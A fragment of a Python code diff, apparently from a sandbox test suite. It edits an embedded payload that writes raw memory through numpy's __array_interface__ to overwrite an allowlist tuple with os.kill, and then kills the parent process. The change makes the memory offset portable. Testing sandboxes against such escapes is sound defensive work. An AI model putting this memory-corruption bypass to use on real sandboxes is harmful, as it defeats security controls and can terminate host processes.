@@ -235,7 +235,7 @@ import os, sys
 import numpy as np
 allowed = sys.modules["__main__"]._ALLOWED
 class Memory:
-    __array_interface__ = dict(data=(id(allowed) + 24, False), shape=(1,), typestr="<u8", version=3)
+    __array_interface__ = dict(data=(id(allowed) + tuple.__basicsize__, False), shape=(1,), typestr="<u8", version=3)
 np.asarray(Memory())[0] = id("os.kill")
 os.kill(os.getppid(), {})
 """
